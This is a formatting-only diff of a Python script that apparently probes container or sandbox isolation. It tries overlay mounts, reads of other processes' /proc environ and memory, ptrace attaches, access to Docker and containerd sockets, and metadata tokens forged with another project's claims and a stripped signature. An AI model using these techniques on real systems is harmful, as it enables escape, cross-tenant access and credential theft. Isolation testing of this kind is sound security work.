@@ -196,9 +196,7 @@ def undo_mounts():
             return "a second bind, " + result
         above = os.path.dirname(TARGET["data"])
         os.makedirs(copy + "2", exist_ok=True)
-        libc.mount(
-            b"overlay", (copy + "2").encode(), b"overlay", 0, f"lowerdir={above}:{copy}".encode()
-        )
+        libc.mount(b"overlay", (copy + "2").encode(), b"overlay", 0, f"lowerdir={above}:{copy}".encode())
         inside = [path.replace(above, copy + "2", 1) for path in TARGET["service_files"]]
         if result := first(read, inside):
             return "an overlay, " + result
@@ -370,11 +368,7 @@ def reach_preloader():
         or first(lambda pid: os.listdir(f"/proc/{pid}/fd") and "its handles", strangers)
         or first(lambda pid: read(f"/proc/{pid}/environ"), strangers)
         or first(lambda pid: can_write(f"/proc/{pid}/mem"), strangers)
-        or in_child(
-            first,
-            lambda pid: not libc.ptrace(PTRACE_SEIZE, pid, None, None) and "traced",
-            strangers,
-        )
+        or in_child(first, lambda pid: not libc.ptrace(PTRACE_SEIZE, pid, None, None) and "traced", strangers)
     )
 
 
@@ -615,8 +609,7 @@ def bind_plainly(host):
 
 def bind_in_a_race(host):
     addresses = [
-        struct.pack("=HH4s8x", socket.AF_INET, 0, socket.inet_aton(ip))
-        for ip in ("127.0.0.1", host)
+        struct.pack("=HH4s8x", socket.AF_INET, 0, socket.inet_aton(ip)) for ip in ("127.0.0.1", host)
     ]
     buffer = ctypes.create_string_buffer(addresses[0], 16)
     is_over = threading.Event()
@@ -642,9 +635,7 @@ def bind_in_a_race(host):
 
 
 def daemons():
-    return first(
-        read, ["/run/docker.sock", "/run/podman/podman.sock", "/run/containerd/containerd.sock"]
-    )
+    return first(read, ["/run/docker.sock", "/run/podman/podman.sock", "/run/containerd/containerd.sock"])
 
 
 def api(token):
@@ -702,9 +693,7 @@ def use_forged_token():
     token = metadata(ENDPOINT)
     head, claims, signature = token.split(".")
     fields = json.loads(base64.urlsafe_b64decode(claims + "=" * (-len(claims) % 4)))
-    changed = [
-        TARGET["other_project"] if field == TARGET["own_project"] else field for field in fields
-    ]
+    changed = [TARGET["other_project"] if field == TARGET["own_project"] else field for field in fields]
     other = base64.urlsafe_b64encode(json.dumps(changed).encode()).decode().rstrip("=")
     made = [f"{head}.{other}.{signature}", f"{head}.{other}.", f"{head}.{other}", "tsj1..", "null"]
 
